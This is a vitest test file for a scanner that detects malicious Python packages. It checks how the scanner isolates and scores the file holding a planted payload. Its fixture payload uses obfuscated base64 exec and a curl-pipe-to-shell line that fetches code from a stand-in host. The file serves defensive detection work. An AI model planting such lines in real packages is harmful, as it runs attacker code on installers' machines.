// The unit of a package (src/features/unit.ts): the file of its strongest located evidence analysed alone,
// so a payload in one file of a big project is scored by itself (issue 12: judge the smallest new unit).
import { beforeAll, describe, expect, it } from 'vitest';
import { extractFeatures, initFeatures } from '../../src/features/index.js';
import { unitFile, unitView } from '../../src/features/unit.js';
import type { Evidence } from '../../src/types.js';
import { PKG_INFO, viewOf } from './view.js';

beforeAll(() => initFeatures());

const PAYLOAD =
  'import os, base64\nexec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik="))\nos.system("curl -s https://x.example/p | sh")\n';
const harmless = (i: number) =>
  `def width_${i}(text):\n    return max((len(line) for line in text.splitlines()), default=0)\n`;
const project = (init: string, modules = 8) => {
  const files: Record<string, string> = {
    'tidy-1.4.2/PKG-INFO': PKG_INFO,
    'tidy-1.4.2/setup.py': 'from setuptools import setup\nsetup(name="tidy-tables", version="1.4.2")\n',
    'tidy-1.4.2/tidy/__init__.py': init,
  };
  for (let i = 0; i < modules; i++) files[`tidy-1.4.2/tidy/m${i}.py`] = harmless(i);
  return files;
};
const evidence = (path: string, severity: Evidence['severity'], context: Evidence['context']): Evidence => ({
  rule: 'r',
  category: 'process',
  severity,
  path,
  line: 1,
  snippet: 'x',
  context,
});

describe('unitFile', () => {
  it('takes the most severe located evidence, then install/import time over runtime', () => {
    expect(
      unitFile([
        evidence('a.py', 'high', 'runtime'),
        evidence('b.py', 'high', 'import'),
        evidence('c.py', 'medium', 'install'),
      ]),
    ).toBe('b.py');
    expect(unitFile([evidence('a.py', 'high', 'runtime'), evidence('b.py', 'critical', 'runtime')])).toBe(
      'b.py',
    );
  });
  it('takes a behaviour over a capability at the same severity, even at run time', () => {
    expect(
      unitFile([
        { ...evidence('x-1/setup.py', 'medium', 'install'), rule: 'sysinfo-read' },
        { ...evidence('x-1/x/conn.py', 'medium', 'runtime'), rule: 'env-exfil' },
      ]),
    ).toBe('x-1/x/conn.py');
    expect(
      unitFile([
        { ...evidence('x-1/x/conn.py', 'medium', 'runtime'), rule: 'env-exfil' },
        { ...evidence('x-1/setup.py', 'high', 'install'), rule: 'sysinfo-read' },
      ]),
    ).toBe('x-1/setup.py');
  });
  it('ignores a known-benign idiom, so a decoy build step cannot pull the unit from the payload', () => {
    const buildStep: Evidence = {
      ...evidence('x-1/setup.py', 'critical', 'install'),
      rule: 'install-time-process',
      snippet: "subprocess.check_call(['make', 'all'])",
    };
    expect(unitFile([buildStep, evidence('x-1/x/__init__.py', 'medium', 'runtime')])).toBe(
      'x-1/x/__init__.py',
    );
  });
  it('ignores low evidence, tests and non-Python files', () => {
    expect(
      unitFile([
        evidence('a.py', 'low', 'import'),
        evidence('pkg/tests/test_x.py', 'critical', 'import'),
        evidence('run.sh', 'critical', 'install'),
      ]),
    ).toBeUndefined();
  });
});

describe('the unit of a package', () => {
  it('is the implanted file with the metadata beside it, scored apart from the project', () => {
    const view = viewOf(project(`from .m0 import width_0\n\n${PAYLOAD}`));
    const analysis = extractFeatures(view);
    expect(analysis.unit?.path).toBe('tidy-1.4.2/tidy/__init__.py');
    const unit = unitView(view, analysis.evidence);
    expect(unit?.view.entries.map((e) => e.path).sort()).toEqual([
      'tidy-1.4.2/PKG-INFO',
      'tidy-1.4.2/tidy/__init__.py',
    ]);
    // The unit is analysed alone: the project's other modules are not in its features.
    expect(analysis.unit!.features['files.py_count']).toBeLessThan(analysis.features['files.py_count']!);
  });

  it('is absent without located evidence, or when there is no other Python file to leave out', () => {
    expect(extractFeatures(viewOf(project('from .m0 import width_0\n'))).unit).toBeUndefined();
    expect(
      extractFeatures(viewOf({ 'x-1/PKG-INFO': PKG_INFO, 'x-1/x/__init__.py': PAYLOAD })).unit,
    ).toBeUndefined();
  });

  it("keeps the role its file has in the package: a module's top level runs at import, alone or not", () => {
    // Parsed alone, tidy/core.py has no __init__.py beside it and used to read as a script (run time only).
    const files = project('from .m0 import width_0\nfrom . import core\n');
    files['tidy-1.4.2/tidy/core.py'] = PAYLOAD;
    const analysis = extractFeatures(viewOf(files));
    expect(analysis.unit?.path).toBe('tidy-1.4.2/tidy/core.py');
    expect(analysis.features['code.process.import']).toBeGreaterThan(0);
    expect(analysis.unit!.features['code.process.import']).toBe(analysis.features['code.process.import']);
    expect(analysis.unit!.features['code.process.runtime'] ?? 0).toBe(0);
  });

  it('does not grow with the padding around it', () => {
    const small = extractFeatures(viewOf(project(PAYLOAD, 1)));
    const big = extractFeatures(viewOf(project(PAYLOAD, 60)));
    expect(big.unit?.features).toEqual(small.unit?.features);
    expect(big.unit?.tokens).toEqual(small.unit?.tokens);
  });

  it('shares the package budget: a unit that finds none left is a gap, not a second allowance', () => {
    const view = viewOf(project(`from .m0 import width_0\n\n${PAYLOAD}`));
    // A clock that moves 1 ms per reading: count the readings of the whole pass without its unit.
    let readings = 0;
    const counting = () => {
      readings++;
      return { cpuMs: readings, wallMs: readings };
    };
    extractFeatures(view, { unit: false, clock: counting });
    const whole = readings;
    const clock = () => {
      const t = ++readings;
      return { cpuMs: t, wallMs: t };
    };
    readings = 0;
    const starved = extractFeatures(view, { clock, budget: { cpuMs: whole } });
    expect(starved.unit).toBeUndefined();
    expect(starved.gaps).toEqual([
      expect.objectContaining({ stage: 'budget', path: 'tidy-1.4.2/tidy/__init__.py' }),
    ]);
    readings = 0;
    const ample = extractFeatures(view, { clock, budget: { cpuMs: 100 * whole } });
    expect(ample.gaps).toBeUndefined();
    expect(ample.unit?.path).toBe('tidy-1.4.2/tidy/__init__.py');
  });
});
